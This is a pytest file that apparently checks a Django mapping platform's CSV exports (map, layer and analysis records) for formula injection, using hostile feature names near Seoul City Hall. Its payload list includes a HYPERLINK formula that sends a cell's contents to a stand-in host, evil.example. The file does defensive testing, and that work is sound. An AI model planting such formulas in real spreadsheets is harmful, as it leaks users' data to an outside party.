"""Every CSV the platform writes reaches a spreadsheet as text: no cell starts a formula (OWASP's rule)."""
import csv
import io

import pytest
from django.contrib.gis.geos import Point

from geoplatform.csvfiles import FORMULA_STARTS, csv_cell
from maps.services import feature_create, map_create

FORMULAS = ["=1+1", "+SUM(1,1)", "-2+3", "@SUM(A1)", '=HYPERLINK("http://evil.example/?x="&A1,"click")',
            "\t=1+1", "\r=1+1"]
# Real places near Seoul City Hall, one per hostile name.
PLACES = [(126.97797 + i * 0.0003, 37.56654 + i * 0.0002) for i in range(len(FORMULAS))]


def _body(response) -> str:
    raw = b"".join(response.streaming_content) if getattr(response, "streaming", False) else response.content
    return raw.decode("utf-8-sig")


def _cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def _assert_no_formula(text: str, map_obj):
    cells = _cells(text)
    assert cells, "the export is empty"
    starting_a_formula = [cell for cell in cells if cell.startswith(FORMULA_STARTS)]
    assert starting_a_formula == []
    for name in map_obj.features.values_list("name", flat=True):
        assert name.startswith(FORMULA_STARTS) and "'" + name in cells  # kept, readable, but as text


@pytest.fixture
def hostile_map(citizen, seoul):
    map_obj = map_create(owner=citizen, title="서울시청 주변 화장실")
    for name, (lon, lat) in zip(FORMULAS, PLACES):
        feature_create(map_obj=map_obj, actor=citizen, geom=Point(lon, lat, srid=4326), name=name,
                       properties={"note": name})
    return map_obj


def test_csv_cell_neutralises_formula_starts_and_leaves_numbers_and_text_alone():
    assert [csv_cell(f) for f in FORMULAS] == ["'" + f for f in FORMULAS]
    assert csv_cell(-2.5) == -2.5 and csv_cell(-3) == -3 and csv_cell(None) is None
    assert csv_cell("서울시청") == "서울시청" and csv_cell("POINT (126.97 37.56)") == "POINT (126.97 37.56)"


def test_map_csv_export_carries_no_formula(hostile_map, citizen, client_for):
    response = client_for(citizen).get(f"/api/maps/{hostile_map.pk}/export.csv")
    assert response.status_code == 200
    _assert_no_formula(_body(response), hostile_map)


def test_layer_csv_export_carries_no_formula(hostile_map, citizen, client_for):
    response = client_for(citizen).get(f"/api/layers/{hostile_map.layer_name}/export.csv")
    assert response.status_code == 200
    _assert_no_formula(_body(response), hostile_map)


def test_analysis_records_csv_carries_no_formula(hostile_map, analyst, api):
    from analysis.services import analysis_create, analysis_publish, analysis_run

    analysis = analysis_create(user=analyst, name="화장실 집계", method="aggregation",
                               parameters={"source": hostile_map.layer_name, "unit": "district"})
    analysis = analysis_run(analysis=analysis, user=analyst)
    assert analysis.status == "succeeded", analysis.error
    analysis_publish(analysis=analysis, user=analyst)
    response = api.get(f"/api/analyses/{analysis.pk}/records.csv")
    assert response.status_code == 200
    _assert_no_formula(_body(response), hostile_map)
